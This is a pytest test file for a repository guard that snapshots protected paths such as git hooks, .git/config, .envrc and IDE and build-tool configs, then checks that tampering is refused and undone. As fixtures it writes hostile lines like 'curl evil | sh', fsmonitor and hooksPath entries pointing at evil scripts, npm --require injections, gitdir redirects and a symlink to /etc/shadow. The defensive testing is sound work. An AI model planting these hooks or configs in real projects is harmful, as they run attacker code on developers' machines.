"""run.guard on real directories: every way a workload could leave a protected path
changed is refused and put back (never through a symlink it made), watched paths are
listed and kept, and ordinary work in the repository is not touched."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from kooi.run.guard import Guard, GuardError, scan


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "pom.xml").write_text("<project/>\n")
    (tmp_path / "src.txt").write_text("code\n")
    return tmp_path


def guarded(repo: Path, *unprotected: str) -> Guard:
    g = Guard(repo, unprotected)
    g.snapshot()
    g.snapshot_watched()
    return g


def test_ordinary_work_is_not_a_refusal(repo):
    g = guarded(repo)
    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b"}
    (repo / "src.txt").write_text("fixed\n")
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(repo), "commit", "-qm", "fix"], check=True, env=env)
    rec = g.check()
    assert rec["refused"] == [] and rec["restored"] and rec["watched_changed"] == []


def test_hooks_config_and_host_side_files_are_put_back(repo):
    config = (repo / ".git/config").read_bytes()
    sample = sorted(p.name for p in (repo / ".git/hooks").iterdir())
    g = guarded(repo)
    (repo / ".git/hooks/post-checkout").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    (repo / ".git/hooks/post-checkout").chmod(0o755)
    with open(repo / ".git/config", "a") as f:
        f.write("[core]\n\thooksPath = /tmp/evil\n\tfsmonitor = /tmp/evil.sh\n")
    (repo / ".envrc").write_text("curl evil | sh\n")
    (repo / ".vscode").mkdir()
    (repo / ".vscode/tasks.json").write_text("{}\n")
    (repo / "pom.xml").write_text("<project><build/></project>\n")
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert refused == {".git/hooks/post-checkout": "created", ".git/config": "modified", ".envrc": "created",
                       ".vscode": "created", ".vscode/tasks.json": "created"}, refused
    assert rec["restored"]
    assert (repo / ".git/config").read_bytes() == config
    assert sorted(p.name for p in (repo / ".git/hooks").iterdir()) == sample
    assert not (repo / ".envrc").exists() and not (repo / ".vscode/tasks.json").exists()
    assert rec["watched_changed"] == [{"path": "pom.xml", "change": "modified"}]
    assert (repo / "pom.xml").read_text() == "<project><build/></project>\n"  # watched: kept


def test_renaming_the_repository_away_or_a_symlink_is_undone(repo, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "victim").write_text("keep me\n")
    config = (repo / ".git/config").read_bytes()
    g = guarded(repo)
    # A fresh .git with a hook, the real one moved aside; .git/info a symlink out.
    (repo / ".git").rename(repo / ".git-old")
    (repo / ".git").mkdir()
    (repo / ".git/hooks").mkdir()
    (repo / ".git/hooks/pre-commit").write_text("#!/bin/sh\nevil\n")
    os.symlink(outside, repo / ".git/info")
    rec = g.check()
    paths = {r["path"] for r in rec["refused"]}
    assert {".git/hooks/pre-commit", ".git/config", ".git/info"} <= paths, rec["refused"]
    assert rec["restored"], rec["restore_failed"]
    assert (repo / ".git/config").read_bytes() == config
    assert not (repo / ".git/hooks/pre-commit").exists()
    assert (repo / ".git/info").is_dir() and not (repo / ".git/info").is_symlink()
    assert (outside / "victim").read_text() == "keep me\n"  # never followed


def test_git_turned_into_a_gitdir_file_is_undone(repo):
    g = guarded(repo)
    shutil.rmtree(repo / ".git")
    (repo / ".git").write_text("gitdir: /tmp/evil-repo\n")
    rec = g.check()
    assert {"path": ".git", "change": "replaced (dir -> file)", "how": "put back"} in rec["refused"]
    assert (repo / ".git").is_dir() and (repo / ".git/config").is_file()


def test_a_workflow_can_unprotect_a_path(repo):
    g = guarded(repo, ".envrc")
    (repo / ".envrc").write_text("export A=1\n")
    rec = g.check()
    assert rec["refused"] == [] and (repo / ".envrc").exists() and ".envrc" not in rec["protected"]


def test_a_new_commondir_or_worktree_config_is_put_back(repo):
    g = guarded(repo)
    (repo / ".git/commondir").write_text("../evil\n")
    (repo / ".git/config.worktree").write_text("[core]\n\tfsmonitor = evil\n")
    (repo / "src.txt").write_text("ordinary work\n")
    rec = g.check()
    assert {r["path"] for r in rec["refused"]} == {".git/commondir", ".git/config.worktree"}, rec["refused"]
    assert not (repo / ".git/commondir").exists() and rec["restored"]


def test_a_parent_replaced_by_a_symlink_is_seen_and_removed(repo):
    (repo / "docs/ide").mkdir(parents=True)
    (repo / "docs/ide/tasks.json").write_text('{"runOn": "folderOpen"}')
    g = guarded(repo)
    os.symlink("docs/ide", repo / ".vscode")
    os.symlink("../docs", repo / ".claude")
    rec = g.check()
    assert {(r["path"], r["change"]) for r in rec["refused"]} == {(".vscode", "created"), (".claude", "created")}
    assert not (repo / ".vscode").exists() and (repo / "docs/ide/tasks.json").exists()


def test_unreadable_large_and_hard_linked_leftovers_are_removed(repo):
    g = guarded(repo)
    (repo / ".devcontainer").mkdir()
    with open(repo / ".devcontainer/big", "wb") as f:
        f.truncate(9 << 20)
    os.link(repo / "src.txt", repo / ".git/hooks/pre-push")
    rec = g.check()
    changes = {r["path"]: r["change"] for r in rec["refused"]}
    assert changes[".devcontainer/big"].startswith("created") and ".git/hooks/pre-push" in changes, changes
    assert rec["restored"] and not (repo / ".devcontainer").exists() and not (repo / ".git/hooks/pre-push").exists()
    assert (repo / "src.txt").read_text() == "code\n"


def test_hooks_elsewhere_in_the_project_are_protected(repo):
    (repo / ".husky/_").mkdir(parents=True)
    (repo / ".husky/pre-commit").write_text("npm test\n")
    (repo / "extra.gitconfig").write_text("[alias]\n\tx = !true\n")
    with open(repo / ".git/config", "a") as f:
        f.write("[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../extra.gitconfig\n")
    g = guarded(repo)
    assert ".husky" in g.paths and "extra.gitconfig" in g.paths
    (repo / ".husky/pre-commit").write_text("curl evil | sh\n")
    (repo / "extra.gitconfig").write_text("[core]\n\tfsmonitor = evil\n")
    rec = g.check()
    assert {r["path"] for r in rec["refused"]} == {".husky/pre-commit", "extra.gitconfig"}, rec["refused"]
    assert (repo / ".husky/pre-commit").read_text() == "npm test\n"


def test_a_gitdir_file_target_in_the_project_is_a_git_directory(tmp_path):
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / ".bare")], check=True)
    (tmp_path / ".git").write_text("gitdir: ./.bare\n")
    g = guarded(tmp_path)
    assert ".bare" in g.git_dirs
    (tmp_path / ".bare/hooks/post-checkout").write_text("evil\n")
    (tmp_path / ".bare/objects/ab").mkdir()
    rec = g.check()
    assert [r["path"] for r in rec["refused"]] == [".bare/hooks/post-checkout"], rec["refused"]
    assert (tmp_path / ".bare/objects/ab").is_dir()  # repository data is the workload's to write


def test_a_run_that_never_started_lists_no_watched_change(repo):
    g = Guard(repo)
    g.snapshot()
    assert g.check()["watched_changed"] == []


def test_shadows_cover_the_existing_protected_paths(repo):
    g = guarded(repo)
    assert {".git/hooks", ".git/config", ".git/info"} <= set(g.shadowed())
    assert ".git" not in g.shadowed() and ".envrc" not in g.shadowed()
    assert ".git/hooks" not in guarded(repo, ".git/hooks").shadowed()


def test_a_write_into_a_shadow_is_listed_and_never_reaches_the_project(repo, tmp_path_factory):
    config = (repo / ".git/config").read_bytes()
    hooks = sorted(p.name for p in (repo / ".git/hooks").iterdir())
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "shadows" / "run1"
    copies = dict(g.shadows(base))
    assert set(copies) == set(g.shadowed())
    # The copies are the snapshot: same names, bytes and modes.
    assert sorted(p.name for p in copies[".git/hooks"].iterdir()) == hooks
    assert copies[".git/config"].read_bytes() == config
    assert scan(base, (".git/hooks",), git_dirs=()) == {k: v for k, v in g.protected.items()
                                                        if k == ".git/hooks" or k.startswith(".git/hooks/")}
    # The workload writes where the project's would be mounted.
    (copies[".git/hooks"] / "post-checkout").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    (copies[".git/hooks"] / "pre-commit.sample").unlink()
    with open(copies[".git/config"], "a") as f:
        f.write("[core]\n\tfsmonitor = /tmp/evil.sh\n")
    (copies[".git/info"] / "attributes").symlink_to("/etc/shadow")
    (repo / ".envrc").write_text("curl evil | sh\n")
    rec = g.check()
    refused = {(r["path"], r["change"], r["how"]) for r in rec["refused"]}
    assert refused == {(".git/hooks/post-checkout", "created", "shadowed"),
                       (".git/hooks/pre-commit.sample", "deleted", "shadowed"),
                       (".git/config", "modified", "shadowed"),
                       (".git/info/attributes", "created", "shadowed"),
                       (".envrc", "created", "put back")}, refused
    assert rec["restored"] and "warning" not in rec
    assert (repo / ".git/config").read_bytes() == config
    assert sorted(p.name for p in (repo / ".git/hooks").iterdir()) == hooks
    assert not base.exists() and g.shadow is None


def test_an_untouched_shadow_is_no_refusal(repo, tmp_path_factory):
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    g.shadows(base)
    rec = g.check()
    assert rec["refused"] == [] and rec["restored"] and not base.exists()


def test_huge_protected_trees_are_refused_up_front(repo, monkeypatch):
    monkeypatch.setattr("kooi.run.guard.MAX_ENTRIES", 5)
    for i in range(10):
        (repo / ".git/hooks" / f"h{i}").write_text("x")
    with pytest.raises(GuardError, match="unprotected_paths"):
        scan(repo, (".git/hooks",))


def test_a_flood_after_the_run_is_replaced_by_the_snapshot(repo, monkeypatch):
    g = guarded(repo)
    monkeypatch.setattr("kooi.run.guard.MAX_ENTRIES_AFTER", 40)
    for i in range(60):
        (repo / ".git/hooks" / f"h{i}").write_text("x")
    rec = g.check()
    assert rec["restored"], rec["restore_failed"]
    assert not any(p.name.startswith("h") and p.name[1:].isdigit() for p in (repo / ".git/hooks").iterdir())


@pytest.mark.parametrize("path,text", [
    (".devcontainer.json", '{"initializeCommand": "touch /tmp/pwned"}'),
    (".cargo/config.toml", '[build]\nrustc-wrapper = "/tmp/evil"\n'),
    (".yarnrc.yml", "yarnPath: ./evil.cjs\n"),
    (".npmrc", "node-options=--require ./evil.js\n"),
    (".pnpmfile.cjs", "require('child_process').execSync('id')\n"),
    (".idea/workspace.xml", "<project/>\n"),
    ("mise.dev.toml", '[tasks.x]\nrun = "id"\n'),
    (".mise.ci.toml", '[env]\n_.source = "./evil.sh"\n'),
    ("mise/config.toml", '[hooks]\nenter = "id"\n'),
])
def test_what_tools_run_on_the_host_is_put_back(repo, path, text):
    """Issue 29, finding 3 and the hostile review: names that tools run on the host when
    someone opens or builds the project there."""
    g = guarded(repo)
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text(text)
    rec = g.check()
    assert path in {r["path"] for r in rec["refused"]}, rec["refused"]
    assert rec["restored"] and not (repo / path).exists()
